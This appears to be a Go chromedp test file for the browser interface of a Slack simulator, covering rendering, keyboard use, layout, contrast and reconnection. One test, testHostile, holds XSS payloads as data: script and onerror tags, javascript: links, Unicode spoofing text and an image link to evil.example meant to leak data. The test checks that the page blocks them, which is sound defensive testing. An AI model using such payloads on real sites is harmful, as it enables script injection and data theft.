package sim_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"switchboard/slack/sim"
)

// testBlocks looks at each kind of block, and at one that is unknown.
func testBlocks(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	section := func(s string) map[string]any {
		return map[string]any{"type": "section", "text": map[string]any{"type": "mrkdwn", "text": s}}
	}
	cell := func(s string) map[string]any { return map[string]any{"type": "raw_text", "text": s} }
	w.ok("chat.postMessage", args{"channel": hall, "text": "fallback", "blocks": []any{
		map[string]any{"type": "header", "text": plain("The header")},
		section("a `code` <https://example.org/x|link> <!here> > not"),
		map[string]any{"type": "divider"},
		map[string]any{"type": "context", "elements": []any{map[string]any{"type": "mrkdwn", "text": "_small_"}}},
		map[string]any{"type": "image", "image_url": "https://example.org/cat.png", "alt_text": "a cat"},
		map[string]any{"type": "markdown", "text": "# Title\n\n1. one\n2. two\n   - deep\n\n```go\nx := 1\n```\n\n![pic](https://example.org/p.png)"},
		map[string]any{"type": "table", "rows": []any{[]any{cell("Day"), cell("Open")}, []any{cell("Mon"), cell("9")}}},
		map[string]any{"type": "rich_text", "elements": []any{map[string]any{"type": "rich_text_list", "style": "bullet", "elements": []any{
			map[string]any{"type": "rich_text_section", "elements": []any{map[string]any{"type": "user", "user_id": bobs}, map[string]any{"type": "text", "text": " bold", "style": map[string]any{"bold": true}}}},
		}}}},
		map[string]any{"type": "task_card", "task_id": "1", "title": "A card", "status": "complete"},
		map[string]any{"type": "plan", "title": "A plan", "tasks": []any{map[string]any{"task_id": "2", "title": "Step", "status": "pending"}}},
	}})
	if _, err := w.Say(sim.Say{
		From: anas, Channel: hall, Text: "see", Files: []sim.Upload{{Name: "notes.txt", Type: "text/plain", Content: []byte("hello")}},
		Attachments: []byte(`[{"title":"An attachment","text":"with text"}]`), Blocks: []byte(`[{"type":"hologram","depth":3}]`),
	}); err != nil {
		t.Fatal(err)
	}
	p := look(t, b, w, hall)
	for selector, words := range map[string]string{
		".block-header": "The header", ".block-section code": "code", ".block-section a": "link", ".mention.loud": "@here", ".block-context em": "small",
		".block-image .chip": "a cat", ".md .h1": "Title", ".md ol ul li": "deep", ".fence code": "x := 1", ".block-markdown .chip": "pic", ".block-table td": "9",
		".block-rich_text .mention": "@bob", ".block-rich_text strong": "bold", ".block-task_card": "A card", ".plan-count": "0 of 1", ".unknown": "hologram",
		".files .chip": "notes.txt", ".attachment-title": "An attachment",
	} {
		p.shows(selector, words)
	}
	if n := eval[int](p, `document.querySelectorAll("img, iframe, video, audio, object, embed").length`); n != 0 {
		t.Errorf("the page has %d elements that fetch what a message names, want none", n)
	}
}

func testKeyboard(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	w.AddChannel(sim.Channel{ID: "C0ATTIC", Name: "attic", Members: []string{anas}})
	root := w.say("the first")
	w.ok("chat.postMessage", args{"channel": hall, "thread_ts": root, "text": "an answer"})
	p := look(t, b, w, hall)
	p.keys(kb.Tab)
	p.until(`document.activeElement.id === "skip"`)
	p.keys(kb.Enter)
	p.until(`document.activeElement.id === "composer"`)
	from := w.Mark()
	p.keys("one")
	p.keys(kb.Enter, chromedp.ModifierShift)
	p.keys("two" + kb.Enter)
	if e := w.await(from, sim.Said); e.Message.Text != "one\ntwo" {
		t.Errorf("the message is %q, want two lines", e.Message.Text)
	}
	p.until(`document.querySelectorAll(".message").length === 2`)
	p.keys(kb.Tab, chromedp.ModifierShift) // the button for files
	p.keys(kb.Tab, chromedp.ModifierShift) // the replies of the first message
	p.until(`document.activeElement.dataset.testid === "replies"`)
	p.keys(kb.Enter)
	p.until(`document.activeElement.id === "thread-composer"`)
	p.shows(testid("thread"), "an answer")
	p.keys("thanks" + kb.Enter)
	w.await(from, sim.Said, func(e sim.Entry) bool { return e.Thread == root && e.Text == "thanks" })
	p.shows("#thread .thread-count", "2 replies")
	eval[any](p, `document.querySelector("#thread .message:last-child").focus()`)
	w.ok("chat.postMessage", args{"channel": hall, "thread_ts": root, "text": "you are welcome"})
	p.shows("#thread .thread-count", "3 replies")
	if s := eval[string](p, `document.activeElement.innerText`); !strings.Contains(s, "thanks") {
		t.Errorf("a new reply took the focus to %q", s)
	}
	p.keys(kb.Escape)
	p.until(`document.querySelector("#thread").hidden && document.activeElement.dataset.ts === ` + quote(root))
	p.keys(kb.ArrowDown)
	p.until(`document.activeElement.innerText.includes("two")`)
	p.keys(kb.Tab) // the tools of the message that has the focus
	p.keys(kb.Tab)
	p.keys(kb.Enter)
	p.until(`document.activeElement.getAttribute("role") === "menuitem"`)
	p.keys(kb.Escape)
	p.gone(".menu")

	eval[any](p, `document.querySelector(".line[aria-current]").focus()`)
	p.keys(kb.ArrowUp)
	p.until(`document.activeElement.dataset.testid === "channel-attic"`)
	p.keys(kb.Enter)
	p.shows("#talk h2", "attic")
	p.keys("i")
	p.until(`!document.querySelector("#inspector").hidden && document.activeElement.type === "search"`)
	p.keys(kb.Escape)
	p.until(`document.querySelector("#inspector").hidden && document.activeElement.id === "inspect"`)
	if bare := eval[[]string](p, `[...document.querySelectorAll("button, input, textarea, select, [role=tab]")].filter((e) => e.offsetParent && !(e.getAttribute("aria-label") || e.labels?.length || e.innerText.trim())).map((e) => e.outerHTML)`); len(bare) > 0 {
		t.Errorf("controls without a name: %v", bare)
	}
}

func testNarrow(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	root := w.say("long " + repeat("word", 200) + " https://example.org/" + repeat("x", 400))
	wide := "| " + repeat("column | ", 12) + "\n|" + repeat("---|", 12) + "\n| " + repeat("value of it | ", 12)
	w.ok("chat.postMessage", args{"channel": hall, "thread_ts": root, "text": "x", "blocks": []any{
		map[string]any{"type": "markdown", "text": wide + "\n\n```\n" + repeat("code ", 100) + "\n```"},
		map[string]any{"type": "actions", "elements": []any{map[string]any{"type": "button", "action_id": "b", "text": plain(repeat("label ", 12))}}},
	}})
	w.ok("views.publish", args{"user_id": anas, "view": map[string]any{"type": "home", "blocks": []any{map[string]any{"type": "section", "text": plain(repeat("home", 300))}}}})
	p := lookAt(t, b, w.s.URL()+"/#as="+anas+"&in="+hall, 375, 700)
	fits := func(where string) {
		t.Helper()
		if n := eval[int](p, `Math.max(document.documentElement.scrollWidth, document.body.scrollWidth) - innerWidth`); n > 0 {
			t.Errorf("%s is %d pixels wider than the window", where, n)
		}
		wider := eval[[]string](p, `[...document.querySelectorAll("body *")].filter((e) => e.offsetParent && !e.closest(".table, pre, .filters, .unseen, .skip, .row > *") && e.getBoundingClientRect().right > innerWidth + 1).map((e) => e.className || e.tagName)`)
		if len(wider) > 0 {
			t.Errorf("%s: these reach over the edge: %v", where, wider)
		}
	}
	shown := func(what string, others ...string) {
		t.Helper()
		p.until(`document.querySelector("` + what + `").checkVisibility()`)
		for _, o := range others {
			if eval[bool](p, `document.querySelector("`+o+`").checkVisibility()`) {
				t.Errorf("%s is shown beside %s", o, what)
			}
		}
	}
	shown("#talk", "#side", "#thread")
	fits("the conversation")
	p.click(testid("replies"))
	shown("#thread", "#side", "#talk")
	p.shows("#thread th", "column")
	fits("the thread")
	p.click("#thread .back")
	shown("#talk", "#side", "#thread")
	p.click("#talk .back")
	shown("#side", "#talk", "#thread")
	fits("the list")
	p.click(testid("person-switch"))
	fits("the menu")
	p.keys(kb.Escape)
	p.click("#inspect")
	p.until(`document.querySelector(".row")`)
	fits("the inspector")
	p.click(testid("faults-tab"))
	fits("the faults")
	p.click("#inspector .close")
	p.click(testid("channel-switchboard"))
	p.click(testid("tab-home"))
	p.shows(testid("home"), "homehome")
	fits("the App Home")
}

// testContrast measures every text that is shown against what is behind it: WCAG 2.2 AA, 4.5:1, or 3:1 for large text.
func testContrast(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	w.AddPerson(sim.Person{ID: "U0GUS", Name: "gus", Kind: sim.Guest})
	w.AddChannel(sim.Channel{ID: "C0OUT", Name: "with-acme", Kind: sim.Shared, Members: []string{anas}})
	root := w.say("hello <@U0BOT>")
	w.ok("chat.postMessage", args{"channel": hall, "thread_ts": root, "text": "x", "blocks": []any{
		map[string]any{"type": "markdown", "text": "[link](https://example.org) `code` <@U0ANA>\n\n> quote\n\n```sql\nselect\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"},
		map[string]any{"type": "task_card", "task_id": "1", "title": "Failing", "status": "error"},
		map[string]any{"type": "actions", "elements": []any{
			map[string]any{"type": "button", "action_id": "a", "text": plain("Primary"), "style": "primary"},
			map[string]any{"type": "button", "action_id": "b", "text": plain("Danger"), "style": "danger"},
		}},
	}})
	w.ok("assistant.threads.setStatus", args{"channel_id": hall, "thread_ts": root, "status": "is thinking"})
	w.ok("chat.postEphemeral", args{"channel": hall, "user": anas, "text": "psst"})
	w.call("chat.update", args{"channel": hall, "ts": "1.1", "text": "refused"})
	p := lookAt(t, b, w.s.URL()+"/#as="+anas+"&in="+hall+"&thread="+root, 1280, 900)
	p.shows("#thread", "Failing")
	p.click("#inspect")
	p.until(`document.querySelector(".row.bad")`)
	p.click(".row.bad")
	grounds := map[string]string{}
	for _, scheme := range []string{"light", "dark"} {
		_, err := chromedp.Call(p.ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}, {Name: "prefers-reduced-motion", Value: "reduce"}},
		})
		if err != nil {
			t.Fatal(err)
		}
		p.until(fmt.Sprintf(`matchMedia("(prefers-color-scheme: %s)").matches`, scheme))
		p.until(`document.getAnimations().length === 0`)
		grounds[scheme] = eval[string](p, `getComputedStyle(document.body).backgroundColor`)
		if low := eval[[]string](p, faint); len(low) > 0 {
			t.Errorf("%s: hard to read:\n%s", scheme, strings.Join(low, "\n"))
		}
	}
	if grounds["light"] == grounds["dark"] {
		t.Errorf("light and dark have the same background, %s", grounds["light"])
	}
}

// faint is a script that gives the texts whose contrast is too low. Colours are drawn to a canvas to be read as bytes.
const faint = `(() => {
  const pen = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
  const bytes = (layers) => {
    pen.clearRect(0, 0, 1, 1);
    for (const c of layers) { pen.fillStyle = c; pen.fillRect(0, 0, 1, 1); }
    return [...pen.getImageData(0, 0, 1, 1).data].slice(0, 3);
  };
  const light = (c) => {
    const [r, g, b] = c.map((v) => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const out = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    const e = n.parentElement;
    if (!n.data.trim() || !e.checkVisibility({ opacityProperty: true, visibilityProperty: true }) || e.closest(".unseen, .skip, script, :disabled")) continue;
    const grounds = [];
    for (let x = e; x; x = x.parentElement) grounds.unshift(getComputedStyle(x).backgroundColor);
    const style = getComputedStyle(e);
    const back = bytes(["white", ...grounds]);
    const front = bytes(["white", ...grounds, style.color]);
    const [a, b] = [light(back), light(front)].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    const size = parseFloat(style.fontSize);
    const large = size >= 24 || (size >= 18.66 && style.fontWeight >= 700);
    if (ratio < (large ? 3 : 4.5)) out.push(ratio.toFixed(2) + " " + n.data.trim().slice(0, 40) + " (" + (e.className || e.tagName) + ") " + front + " on " + back);
  }
  return out;
})()`

func testHostile(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	evil := `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`
	hidden := "pay\u200bpal \u202egnp.exe\u202c \u2066x\u2069 مرحبا بالعالم שלום"
	post := func(text string) {
		w.ok("chat.postMessage", args{"channel": hall, "text": text})
		w.ok("chat.postMessage", args{"channel": hall, "text": "x", "blocks": []any{map[string]any{"type": "markdown", "text": text[:min(len(text), 11000)]}}})
	}
	post(evil)
	post("[click](javascript:alert(1)) <javascript:alert(1)|click> [x](data:text/html,hi) [y](JaVaScRiPt:alert(1)) ![i](https://evil.example/leak?d=1) <https://evil.example|https://bank.example>")
	post(hidden)
	post(repeat("x", 40000))
	w.ok("chat.postMessage", args{"channel": hall, "text": "x", "blocks": []any{map[string]any{"type": "actions", "elements": []any{
		map[string]any{"type": "button", "action_id": "out", "text": plain("Out"), "url": "javascript:document.title='owned'"},
	}}}})
	for _, s := range []string{"*", "_", "[", "`", "**", "<", "| ", "> ", "- ", "[a](", "```\n", "~"} {
		post(repeat(s, 6000/len(s)))
	}
	w.AddPerson(sim.Person{ID: "U0EVIL", Name: evil, Kind: sim.External})
	w.AddChannel(sim.Channel{ID: "C0EVIL", Name: "a" + hidden, Members: []string{anas, "U0EVIL"}})
	if _, err := w.Say(sim.Say{From: "U0EVIL", Channel: "C0EVIL", Text: "I am <@U0ANA|the boss>"}); err != nil {
		t.Fatal(err)
	}
	p := look(t, b, w, "C0EVIL")
	p.shows(testid("message"), "I am @ana")
	p.shows(".name", "<img src=x")
	p.do(chromedp.Navigate(w.s.URL() + "/?2#as=" + anas + "&in=" + hall))
	p.until(`document.querySelectorAll(".message").length === 33`)
	p.shows(testid("message"), `<img src=x onerror=`)
	p.click(testid("button-out"))
	p.shows(".toast", "cannot be followed")
	if s := eval[string](p, `document.title`); strings.Contains(s, "owned") {
		t.Error("a message ran its own script")
	}
	bad := eval[[]string](p, `[...document.querySelectorAll("a")].filter((a) => a.closest(".message") && (!/^(https?|mailto):/.test(a.href) || !a.rel.includes("noopener") || a.target !== "_blank")).map((a) => a.outerHTML)`)
	if len(bad) > 0 {
		t.Errorf("links that must not be: %v", bad)
	}
	if n := eval[int](p, `document.querySelectorAll(".message :is(img, script, iframe, style, form, object)").length`); n != 0 {
		t.Errorf("messages made %d elements that they must not", n)
	}
	if far := eval[[]string](p, `performance.getEntriesByType("resource").map((r) => r.name).filter((n) => !n.startsWith(location.origin))`); len(far) > 0 {
		t.Errorf("the page fetched %v", far)
	}
	if n := eval[int](p, `document.documentElement.scrollWidth - innerWidth`); n > 0 {
		t.Errorf("a text makes the page %d pixels too wide", n)
	}
}

func testInspector(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	p := look(t, b, w, hall)
	w.say("before")
	p.keys("i")
	p.shows(".row", "before")
	p.click(`.row[data-what="said"]`)
	p.shows(".json", `"what": "said"`)
	eval[any](p, `[...document.querySelectorAll(".filter")].find((e) => e.textContent === "messages").click()`)
	p.gone(`.row[data-what="said"]`)
	eval[any](p, `[...document.querySelectorAll(".filter")].find((e) => e.textContent === "messages").click()`)
	press := func(what string) {
		eval[any](p, `document.body.dispatchEvent(new PointerEvent("`+what+`", { bubbles: true }))`)
	}
	press("pointerdown")
	w.say("while a button is pressed")
	p.shows(".row", "while a button is pressed")
	if strings.Contains(eval[string](p, `document.querySelector("#talk").innerText`), "while a button is pressed") {
		t.Error("the conversation was drawn anew under a pressed pointer")
	}
	press("pointerup")
	p.shows(testid("message"), "while a button is pressed")
	p.click(testid("inspector-pause"))
	from := w.Mark()
	w.say("while it is held")
	w.await(from, sim.Said)
	p.shows(testid("message"), "while it is held")
	if eval[bool](p, `[...document.querySelectorAll(".row")].some((e) => e.innerText.includes("while it is held"))`) {
		t.Error("the log went on while it was held")
	}
	p.click(testid("inspector-pause"))
	p.shows(".row", "while it is held")

	p.click(testid("faults-tab"))
	eval[any](p, `[...document.querySelectorAll(".faults .action")].find((e) => e.textContent === "Arm").click()`)
	p.shows(".active-faults", "chat.postMessage: 429")
	res, body, err := w.request("chat.postMessage", bot, args{"channel": hall, "text": "x"})
	if err != nil || res.StatusCode != 429 {
		t.Fatalf("the next call: %v %s, want 429", err, body)
	}
	w.post("and the one after goes well")
	from = w.Mark()
	p.click(".switch:last-child input")
	w.await(from, sim.Changed, func(e sim.Entry) bool { return e.Method == "limits" && strings.Contains(string(e.Body), "true") })
}

func testReconnect(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	s, err := sim.Start(t.Context(), w.Workspace, "")
	if err != nil {
		t.Fatal(err)
	}
	addr := strings.TrimPrefix(s.URL(), "http://")
	p := lookAt(t, b, s.URL()+"/#as="+anas+"&in="+hall, 1280, 800)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	p.until(`!document.querySelector("#banner").hidden`)
	next := sim.New(sim.Options{})
	next.AddPerson(sim.Person{ID: anas, Name: "ana"})
	next.AddChannel(sim.Channel{ID: hall, Name: "hall", Members: []string{anas}})
	if _, err := next.Say(sim.Say{From: anas, Channel: hall, Text: "here again"}); err != nil {
		t.Fatal(err)
	}
	again, err := sim.Start(t.Context(), next, addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := again.Close(); err != nil {
			t.Error(err)
		}
	})
	p.shows(testid("message"), "here again")
	p.until(`document.querySelector("#banner").hidden`)
	// The browser itself writes to the console that nobody answered.
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, s := range p.said {
		if !strings.Contains(s, "ERR_CONNECTION_REFUSED") && !strings.Contains(s, "ERR_INCOMPLETE_CHUNKED") && !strings.Contains(s, "ERR_CONNECTION_RESET") {
			t.Errorf("the console says %s", s)
		}
	}
	p.said = nil
}

func testGreeting(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	w.AddChannel(sim.Channel{ID: "C0BOB", Name: "bobs", Kind: sim.Private, Members: []string{bobs, "U0BOT"}})
	w.Suggest([]sim.Suggestion{
		{Channel: hall, Text: "<@U0BOT> how do I export waivers?", Why: "a question"},
		{Channel: "C0BOB", Text: "<@U0BOT> refund it", Why: "somebody else's"},
	})
	p := lookAt(t, b, w.s.URL()+"/", 1280, 800)
	p.shows(".greeting", "@switchboard how do I export waivers?")
	from := w.Mark()
	p.click(".tries li:last-child button")
	if e := w.await(from, sim.Said); e.Person != bobs || e.Channel != "C0BOB" || e.Text != "<@U0BOT> refund it" {
		t.Errorf("the suggestion said %q as %s in %s", e.Text, e.Person, e.Channel)
	}
	p.shows(".who", "bob")
	p.gone(".greeting")
}

func testReading(t *testing.T, b *browser) {
	t.Helper()
	w := open(t)
	w.AddChannel(sim.Channel{ID: "C0ATTIC", Name: "attic", Members: []string{anas, bobs, "U0BOT"}})
	for range 40 {
		w.post("one\ntwo")
	}
	p := look(t, b, w, hall)
	p.until(`document.querySelectorAll(".message").length === 40`)
	p.until(`(() => { const b = document.querySelector(".list"); return b.scrollHeight - b.scrollTop - b.clientHeight < 5 })()`)
	eval[any](p, `document.querySelector(".list").scrollTo(0, 100)`)
	w.post("a new one")
	p.shows(".pill", "1 new message")
	if top := eval[float64](p, `document.querySelector(".list").scrollTop`); top != 100 {
		t.Errorf("the list moved to %v while it was read, want 100", top)
	}
	p.click(".pill")
	p.until(`(() => { const b = document.querySelector(".list"); return b.scrollHeight - b.scrollTop - b.clientHeight < 5 })()`)
	w.ok("chat.postMessage", args{"channel": "C0ATTIC", "text": "look here <@U0ANA>"})
	p.shows(testid("channel-attic")+" .news", "1")
	eval[any](p, `document.querySelector('`+testid("channel-attic")+`').kept = true`)
	w.post("what stands elsewhere stays")
	p.shows(testid("message"), "what stands elsewhere stays")
	if !eval[bool](p, `document.querySelector('`+testid("channel-attic")+`').kept === true`) {
		t.Error("a line of the sidebar was made anew without need: a click on it would have been lost")
	}
	p.click(testid("channel-attic"))
	p.gone(testid("channel-attic") + " .news")
	p.shows(".unread-line", "New")
	p.until(`document.querySelector(".message.for-me")`)

	for range 300 { // more than are drawn at once
		if _, err := w.Say(sim.Say{From: bobs, Channel: "C0ATTIC", Text: "more"}); err != nil {
			t.Fatal(err)
		}
	}
	p.until(`document.querySelectorAll(".message").length === 300 && document.querySelector(".list").scrollTop > 1000`)
	eval[any](p, `document.querySelector(".list").scrollTo(0, 0)`)
	p.click(".earlier button")
	p.until(`document.querySelectorAll(".message").length === 301 && document.querySelector(".list").scrollTop > 0`)
	if !eval[bool](p, `document.querySelector(".pill").hidden`) {
		t.Error("older messages are called new")
	}
}
